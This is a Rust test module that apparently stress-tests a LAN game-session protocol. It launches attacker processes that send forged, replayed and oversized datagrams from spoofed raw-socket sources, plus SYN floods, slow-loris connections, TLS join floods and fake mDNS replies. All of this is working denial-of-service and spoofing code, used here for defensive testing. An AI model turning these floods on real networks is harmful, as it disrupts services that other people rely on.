//! What attackers send: this program, started again on a node, floods instead of testing.
//!
//! It makes its datagrams by protocol.md and not by the library, from one true advert of the host that it attacks. Sources
//! are forged with raw sockets; the pace is kept by the clock, and what was sent is told each second.

use std::env;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream, UdpSocket};
use std::time::{Duration, Instant};

use ring::digest::{SHA256, digest};
use ring::signature::{Ed25519KeyPair, KeyPair};
use socket2::{Domain, Protocol, Socket, Type};

use super::helper::unhex;
use super::lan::{Node, in_namespace};
use super::process::Proc;
use super::timing::SECOND;
use super::tls_door;

const ACT: &str = "LANSESSION_ATTACK";
/// The port that all games share (protocol.md, "Sockets and paths").
pub(crate) const BEACON: u16 = 29_417;
/// Of all forged sources: the network of `Lan::new`, without its machines.
const SOURCES: std::ops::Range<u8> = 20..250;

/// Datagrams that one attacker sends.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Flood<'a> {
    /// Of `KINDS`, some joined by commas.
    pub(crate) kinds: &'a str,
    pub(crate) per_second: u32,
    pub(crate) seconds: u64,
    /// Each from another address, else from the node's own.
    pub(crate) spoofed: bool,
    /// Where: an address and port, or several joined by commas.
    pub(crate) to: &'a str,
}

/// Everything that is forged.
pub(crate) const KINDS: &str = "forged,stolen,replay,query,probe,goodbye,alive,death,hint,locate,cut,big,junk";

/// Starts a flood; `sample` is a true advert in hex digits.
pub(crate) fn datagrams(node: &Node, flood: Flood<'_>, sample: &str) -> Proc {
    let Flood { kinds, per_second, seconds, spoofed, to } = flood;
    let proc = act(node, &format!("datagrams {kinds} {per_second} {seconds} {spoofed} {to} {sample}"));
    proc.expect("flooding", 20 * SECOND);
    proc
}

/// A true advert of the host at this address, in hex digits: the answer to a question.
pub(crate) fn sample(node: &Node, host: &str) -> String {
    let proc = act(node, &format!("sample {host}"));
    proc.expect("advert", 8 * SECOND).text("/hex").to_owned()
}

/// So many SYNs a second from forged sources, and nothing after them.
pub(crate) fn syns(node: &Node, to: &str, per_second: u32, seconds: u64) -> Proc {
    started(act(node, &format!("syns {to} {per_second} {seconds}")))
}

/// So many connections that each send one byte of a handshake a second, made again when they are closed.
pub(crate) fn slow_loris(node: &Node, to: &str, count: usize, seconds: u64) -> Proc {
    started(act(node, &format!("loris {to} {count} {seconds}")))
}

/// Connections one after the other, as fast as they are taken, so many at a time: garbage for TLS (`noise`), or a whole
/// handshake with a fresh key and then `silence`, `garbage`, `cut` (half a frame) or `big` (longer than any message).
pub(crate) fn joins(node: &Node, to: &str, how: &str, beside: usize, seconds: u64) -> Proc {
    started(act(node, &format!("joins {to} {how} {beside} {seconds}")))
}

/// DNS-SD replies, each with a session that is not there.
pub(crate) fn mdns(node: &Node, per_second: u32, seconds: u64) -> Proc {
    started(act(node, &format!("mdns {per_second} {seconds}")))
}

fn started(proc: Proc) -> Proc {
    proc.expect("flooding", 8 * SECOND);
    proc
}

fn act(node: &Node, what: &str) -> Proc {
    let exe = env::current_exe().expect("the path of this test program");
    let mut command = in_namespace(node.name(), &exe);
    command.args(["attack::acts", "--exact", "--ignored", "--nocapture", "--test-threads", "1"]).env(ACT, what);
    let title: String = what.chars().take(100).collect();
    Proc::start(&mut command, format!("{}: {title}", node.name()))
}

/// No test: what the functions above start. It does nothing when it is run as a test.
#[test]
#[ignore = "started by other tests"]
fn acts() {
    let Ok(text) = env::var(ACT) else { return };
    let words: Vec<&str> = text.split(' ').collect();
    let number = |at: usize| words[at].parse::<u32>().expect("a number");
    println!();
    match words[0] {
        "datagrams" => {
            let to: Vec<SocketAddrV4> = words[5].split(',').map(|to| to.parse().expect("an address")).collect();
            let spoofed = words[4] == "true";
            do_datagrams(words[1], number(2), number(3).into(), spoofed, &to, &unhex(words[6]));
        }
        "sample" => do_sample(words[1]),
        "syns" => do_syns(words[1].parse().expect("an address"), number(2), number(3).into()),
        "loris" => do_loris(words[1].parse().expect("an address"), number(2), number(3).into()),
        "joins" => do_joins(words[1].parse().expect("an address"), words[2], number(3), number(4).into()),
        "mdns" => do_mdns(number(1), number(2).into()),
        other => panic!("unknown act {other}"),
    }
}

/// Enough for an attacker (xorshift64*).
struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, bound: usize) -> usize {
        (self.next() % bound as u64) as usize
    }

    fn bytes(&mut self, count: usize) -> Vec<u8> {
        let words = (0..count.div_ceil(8)).flat_map(|_| self.next().to_be_bytes());
        words.take(count).collect()
    }
}

/// Calls `send` so often a second, evenly; tells each second how often it was, and how often it failed.
fn paced(per_second: u32, seconds: u64, mut send: impl FnMut() -> bool) {
    println!("{{\"event\":\"flooding\"}}");
    let (start, end) = (Instant::now(), Duration::from_secs(seconds));
    let (mut sent, mut failed, mut missed, mut told) = (0_u64, 0_u64, 0_u64, 1);
    loop {
        let passed = start.elapsed();
        if passed >= end {
            return;
        }
        if passed.as_secs() >= told {
            told = passed.as_secs() + 1;
            println!("{{\"event\":\"sent\",\"count\":{sent},\"failed\":{failed},\"ms\":{}}}", passed.as_millis());
        }
        let due = (passed.as_secs_f64() * f64::from(per_second)) as u64 - missed;
        // What was missed while this process had no core is not made up for: that would be another attack.
        if due > sent + 1_000 {
            missed += due - sent - 1_000;
            continue;
        }
        for _ in 0..due.saturating_sub(sent).min(64) {
            failed += u64::from(!send());
            sent += 1;
        }
        if due <= sent {
            std::thread::sleep(Duration::from_micros(200));
        }
    }
}

fn context(text: &str) -> Vec<u8> {
    let mut bytes = text.as_bytes().to_vec();
    bytes.resize(32, 0);
    bytes
}

fn hash(text: &str, part: &[u8]) -> Vec<u8> {
    digest(&SHA256, &[&context(text), part].concat()).as_ref().to_vec()
}

/// magic 4, major 1, kind 1, flags 1, zero 1, game tag 8.
fn prefix(kind: u8, flags: u8, tag: &[u8]) -> Vec<u8> {
    [b"lans", &[1, kind, flags, 0][..], tag].concat()
}

/// A question for any session: nonce 8, path 1, target 1 and 16, take 1, expect 2, cap 2, cookie 16, and nothing else.
fn query(tag: &[u8], nonce: u64, path: u8) -> Vec<u8> {
    let mut bytes = [prefix(1, 0, tag), nonce.to_be_bytes().to_vec(), vec![path]].concat();
    bytes.resize(512, 0);
    bytes
}

fn do_sample(host: &str) {
    let socket = UdpSocket::bind("0.0.0.0:0").expect("a socket");
    socket.set_read_timeout(Some(Duration::from_millis(300))).expect("a timeout");
    let tag = &hash("lansession game", super::GAME.as_bytes())[..8];
    let mut buffer = [0; 2_048];
    for nonce in 1..20_u64 {
        socket.send_to(&query(tag, nonce, 4), (host, BEACON)).expect("a question");
        if let Ok((length, _)) = socket.recv_from(&mut buffer) {
            let hex: String = buffer[..length].iter().map(|byte| format!("{byte:02x}")).collect();
            println!("{{\"event\":\"advert\",\"hex\":\"{hex}\"}}");
            return;
        }
    }
}

/// Makes datagrams from one true advert.
struct Forge {
    dice: Dice,
    advert: Vec<u8>,
    /// Adverts under keys of the attacker's own, signed beforehand.
    valid: Vec<Vec<u8>>,
}

/// The moment part of an advert: salt 8, incarnation 8, term 4, sequence 4, ..., and the signature.
const TAIL: usize = 43 + 64;
/// The flag that the id derives from key and salt.
const DERIVED: u8 = 16;

impl Forge {
    fn new(advert: &[u8], kinds: &[&str]) -> Self {
        let mut forge = Self { dice: Dice(0x9e37_79b9_7f4a_7c15), advert: advert.to_vec(), valid: Vec::new() };
        if kinds.contains(&"valid") {
            forge.valid = (0..8_192).map(|_| forge.sign()).collect();
        }
        forge
    }

    /// A session of the attacker's own: it verifies.
    fn sign(&mut self) -> Vec<u8> {
        let pair = Ed25519KeyPair::from_seed_unchecked(&self.dice.bytes(32)).expect("a key");
        let mut bytes = self.another(pair.public_key().as_ref());
        let end = bytes.len() - 64;
        let signature = pair.sign(&[&context("lansession advert"), &bytes[..end]].concat());
        bytes[end..].copy_from_slice(signature.as_ref());
        bytes
    }

    /// The advert under another key and id.
    fn another(&mut self, key: &[u8]) -> Vec<u8> {
        let mut bytes = self.advert.clone();
        bytes[6] &= !DERIVED;
        bytes[16..48].copy_from_slice(key);
        bytes[48..64].copy_from_slice(&self.dice.bytes(16));
        bytes
    }

    /// The host under attack in its own name: key and id, incarnation, term, a high sequence.
    fn named(&mut self, kind: u8) -> Vec<u8> {
        let (advert, moment) = (&self.advert, self.advert.len() - TAIL);
        let mut bytes = prefix(kind, 0, &advert[8..16]);
        bytes.extend_from_slice(&advert[16..64]);
        bytes.extend_from_slice(&advert[moment + 8..moment + 20]);
        bytes.extend_from_slice(&(1_000_000 + self.dice.next() as u32 % 1_000_000).to_be_bytes());
        bytes
    }

    fn make(&mut self, kind: &str) -> Vec<u8> {
        let tag = self.advert[8..16].to_vec();
        let end = self.advert.len() - 64;
        match kind {
            "forged" => {
                let key = self.dice.bytes(32);
                let mut bytes = self.another(&key);
                bytes[end..].copy_from_slice(&self.dice.bytes(64));
                bytes
            }
            // The host's own name, a higher number, and no signature of its.
            "stolen" => {
                let mut bytes = self.advert.clone();
                bytes[end - 23..end - 19].copy_from_slice(&(self.dice.next() as u32 | 1 << 30).to_be_bytes());
                bytes[end..].copy_from_slice(&self.dice.bytes(64));
                bytes
            }
            "replay" => self.advert.clone(),
            "valid" => {
                let at = self.dice.below(self.valid.len());
                self.valid[at].clone()
            }
            "query" => {
                let path = [1, 2, 4][self.dice.below(3)];
                query(&tag, self.dice.next(), path)
            }
            // nonce 8, id 16, host tag 8 (zeros name any), known digest 8.
            "probe" => {
                let mut bytes = [prefix(2, 0, &tag), self.dice.bytes(8), self.advert[48..64].to_vec()].concat();
                bytes.resize(176, 0);
                bytes
            }
            // reason 1, next host key 32.
            "goodbye" => [self.named(132), vec![0; 33], self.dice.bytes(64)].concat(),
            // echo 8, ttl 2, digest 8.
            "alive" => [self.named(131), self.dice.bytes(8), vec![1; 10], self.dice.bytes(64)].concat(),
            "death" => {
                let host = hash("lansession host tag", &self.advert[16..48]);
                let named = self.named(133);
                [&prefix(133, 0, &tag), &named[48..64], &host[..8], &named[64..]].concat()
            }
            "hint" => [&prefix(130, 0, &tag), &self.advert[16..64], &self.dice.bytes(26)].concat(),
            "locate" => [prefix(3, 0, &tag), self.dice.bytes(187)].concat(),
            "cut" => {
                let length = self.dice.below(self.advert.len());
                self.advert[..length].to_vec()
            }
            "big" => [prefix([1, 2, 129][self.dice.below(3)], 0, &tag), self.dice.bytes(1_400)].concat(),
            "junk" => {
                let length = self.dice.below(600);
                self.dice.bytes(length)
            }
            other => panic!("no datagram {other}"),
        }
    }
}

fn do_datagrams(kinds: &str, per_second: u32, seconds: u64, spoofed: bool, to: &[SocketAddrV4], sample: &[u8]) {
    let kinds: Vec<&str> = kinds.split(',').collect();
    let mut forge = Forge::new(sample, &kinds);
    let plain = UdpSocket::bind("0.0.0.0:0").expect("a socket");
    plain.set_broadcast(true).expect("broadcast");
    let raw = spoofed.then(|| raw(Protocol::UDP));
    let (mut at, mut dice) = (0, Dice(77));
    paced(per_second, seconds, || {
        let (payload, to) = (forge.make(kinds[at % kinds.len()]), to[at / kinds.len() % to.len()]);
        at += 1;
        let Some(raw) = &raw else { return plain.send_to(&payload, to).is_ok() };
        let length = (8 + payload.len()) as u16;
        let ports = [1_024 + dice.below(60_000) as u16, to.port(), length, 0];
        let segment = [ports.map(u16::to_be_bytes).concat(), payload].concat();
        send_raw(raw, 17, source(&mut dice), to, &segment)
    });
}

fn source(dice: &mut Dice) -> Ipv4Addr {
    let last = SOURCES.start + dice.below(SOURCES.len()) as u8;
    Ipv4Addr::new(10, 50, 0, last)
}

fn raw(protocol: Protocol) -> Socket {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(protocol)).expect("a raw socket");
    socket.set_header_included_v4(true).expect("headers of our own");
    socket.set_broadcast(true).expect("broadcast");
    socket
}

/// An IPv4 packet (RFC 791): the kernel fills in its checksum and identification.
fn send_raw(socket: &Socket, protocol: u8, from: Ipv4Addr, to: SocketAddrV4, segment: &[u8]) -> bool {
    let [high, low] = ((20 + segment.len()) as u16).to_be_bytes();
    let mut packet = vec![0x45, 0, high, low, 0, 0, 0x40, 0, 64, protocol, 0, 0];
    packet.extend_from_slice(&from.octets());
    packet.extend_from_slice(&to.ip().octets());
    packet.extend_from_slice(segment);
    socket.send_to(&packet, &SocketAddr::from(to).into()).is_ok()
}

fn do_syns(to: SocketAddrV4, per_second: u32, seconds: u64) {
    let (socket, mut dice) = (raw(Protocol::TCP), Dice(99));
    paced(per_second, seconds, || {
        let from = source(&mut dice);
        let port = 1_024 + dice.below(60_000) as u16;
        // Ports, sequence, acknowledgement, length and flags (SYN), window, checksum, urgent.
        let mut segment = [port.to_be_bytes(), to.port().to_be_bytes()].concat();
        segment.extend_from_slice(&(dice.next() as u32).to_be_bytes());
        segment.extend_from_slice(&[0, 0, 0, 0, 0x50, 2, 0xff, 0xff, 0, 0, 0, 0]);
        let pseudo = [&from.octets()[..], &to.ip().octets(), &[0, 6, 0, 20]].concat();
        let words = [pseudo.as_slice(), &segment].concat();
        let mut sum: u32 = words.chunks(2).map(|word| u32::from(u16::from_be_bytes([word[0], word[1]]))).sum();
        while sum > 0xffff {
            sum = (sum & 0xffff) + (sum >> 16);
        }
        segment[16..18].copy_from_slice(&(!(sum as u16)).to_be_bytes());
        send_raw(&socket, 6, from, to, &segment)
    });
}

fn connect(to: SocketAddr) -> Option<TcpStream> {
    let stream = TcpStream::connect_timeout(&to, Duration::from_millis(500)).ok()?;
    stream.set_read_timeout(Some(Duration::from_millis(500))).expect("a timeout");
    stream.set_write_timeout(Some(Duration::from_millis(500))).expect("a timeout");
    Some(stream)
}

fn do_loris(to: SocketAddr, count: u32, seconds: u64) {
    println!("{{\"event\":\"flooding\"}}");
    let hello = [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];
    let end = Instant::now() + Duration::from_secs(seconds);
    let mut held: Vec<(TcpStream, usize)> = Vec::new();
    let mut made = 0_u64;
    while Instant::now() < end {
        held.retain_mut(|(stream, at)| {
            *at += 1;
            stream.write_all(&hello[*at % hello.len()..][..1]).is_ok()
        });
        while held.len() < count as usize {
            let Some(mut stream) = connect(to) else { break };
            made += 1;
            if stream.write_all(&hello[..1]).is_ok() {
                held.push((stream, 0));
            }
        }
        println!("{{\"event\":\"sent\",\"count\":{made}}}");
        std::thread::sleep(Duration::from_secs(1));
    }
}

fn do_joins(to: SocketAddr, how: &str, beside: u32, seconds: u64) {
    println!("{{\"event\":\"flooding\"}}");
    let end = Instant::now() + Duration::from_secs(seconds);
    let workers: Vec<_> = (0..beside)
        .map(|worker| {
            let how = how.to_owned();
            std::thread::spawn(move || {
                let (mut dice, mut done, mut whole) = (Dice(31 + u64::from(worker)), 0_u64, 0_u64);
                while Instant::now() < end {
                    let Some(stream) = connect(to) else { continue };
                    whole += u64::from(join(stream, &how, &mut dice));
                    done += 1;
                }
                (done, whole)
            })
        })
        .collect();
    for worker in workers {
        let (done, whole) = worker.join().expect("no attacker panics");
        println!("{{\"event\":\"sent\",\"count\":{done},\"whole\":{whole}}}");
    }
}

/// One connection of a join flood; whether its handshake was finished.
fn join(mut stream: TcpStream, how: &str, dice: &mut Dice) -> bool {
    if how == "noise" {
        let length = 1 + dice.below(8_000);
        let record = [&[0x16, 3, 1][..], &(length as u16).to_be_bytes(), &dice.bytes(length)].concat();
        let _ = stream.write_all(&record).and_then(|()| stream.read(&mut [0; 64]));
        return false;
    }
    let seed = dice.bytes(32);
    let Some(mut door) = tls_door::open(stream, &seed) else { return false };
    // length of the payload 2, kind 1, flags 1 (bit 0: more parts follow), payload.
    let frame = |length: u16, kind: u8, flags: u8| [&length.to_be_bytes()[..], &[kind, flags]].concat();
    let words = match how {
        "silence" => Vec::new(),
        "garbage" => {
            let (length, kind) = (1 + dice.below(8_000), dice.below(40) as u8);
            [frame(length as u16, kind, 0), dice.bytes(length)].concat()
        }
        "cut" => [frame(500, 1, 0), dice.bytes(20)].concat(),
        "big" => (0..40).flat_map(|_| [frame(60_000, 1, 1), vec![7; 60_000]].concat()).collect(),
        other => panic!("no join {other}"),
    };
    let _ = door.write_all(&words).and_then(|()| door.flush()).and_then(|()| door.read(&mut [0; 256]));
    true
}

fn do_mdns(per_second: u32, seconds: u64) {
    let socket = Socket::new(Domain::IPV4, Type::DGRAM, Some(Protocol::UDP)).expect("a socket");
    socket.set_reuse_address(true).expect("reuse");
    socket.bind(&SocketAddr::from(([0, 0, 0, 0], 5353)).into()).expect("port 5353");
    socket.set_multicast_ttl_v4(255).expect("a TTL");
    let to = SocketAddr::from(([224, 0, 0, 251], 5353)).into();
    let (mut dice, tag) = (Dice(5), hash("lansession game", super::GAME.as_bytes()));
    paced(per_second, seconds, || socket.send_to(&dns_reply(&mut dice, &tag[..8]), &to).is_ok());
}

fn name(labels: &[&str]) -> Vec<u8> {
    let mut bytes: Vec<u8> = labels.iter().flat_map(|l| [&[l.len() as u8], l.as_bytes()].concat()).collect();
    bytes.push(0);
    bytes
}

/// A reply (RFC 6762) with a session that nobody hosts: PTR, SRV, TXT and A.
fn dns_reply(dice: &mut Dice, tag: &[u8]) -> Vec<u8> {
    let base32 = |bytes: &[u8]| -> String {
        let alphabet = b"0123456789ABCDEFGHJKMNPQRSTVWXYZ";
        let bit = |at: usize| bytes.get(at / 8).map_or(0, |byte| usize::from(byte >> (7 - at % 8) & 1));
        let digit = |at: usize| char::from(alphabet[(0..5).fold(0, |value, n| value * 2 + bit(at * 5 + n))]);
        (0..(bytes.len() * 8).div_ceil(5)).map(digit).collect()
    };
    let (instance, host) = (format!("x{:015x}", dice.next() >> 4), format!("h{:015x}", dice.next() >> 4));
    let service = ["_lansession", "_tcp", "local"];
    let full = name(&[&[instance.as_str()][..], &service].concat());
    let target = name(&[&host, "local"]);
    let record = |name: &[u8], kind: u16, class: u16, data: &[u8]| {
        let head = [kind.to_be_bytes(), class.to_be_bytes(), [0, 0], 120_u16.to_be_bytes()].concat();
        [name, &head, &(data.len() as u16).to_be_bytes(), data].concat()
    };
    let pairs = [
        "m=1".to_owned(),
        format!("g={}", base32(tag)),
        format!("id={}", base32(&dice.bytes(16))),
        format!("h={}", base32(&dice.bytes(12))),
        "u=40001".to_owned(),
        "v=0".to_owned(),
    ];
    let txt: Vec<u8> = pairs.iter().flat_map(|pair| [&[pair.len() as u8], pair.as_bytes()].concat()).collect();
    let port = 1_024 + dice.below(60_000) as u16;
    let srv = [&[0, 0, 0, 0, 0, 0][..4], &port.to_be_bytes(), &target].concat();
    let mut bytes = vec![0, 0, 0x84, 0, 0, 0, 0, 4, 0, 0, 0, 0];
    bytes.extend(record(&name(&service), 12, 1, &full));
    bytes.extend(record(&full, 33, 0x8001, &srv));
    bytes.extend(record(&full, 16, 0x8001, &txt));
    bytes.extend(record(&target, 1, 0x8001, &source(dice).octets()));
    bytes
}
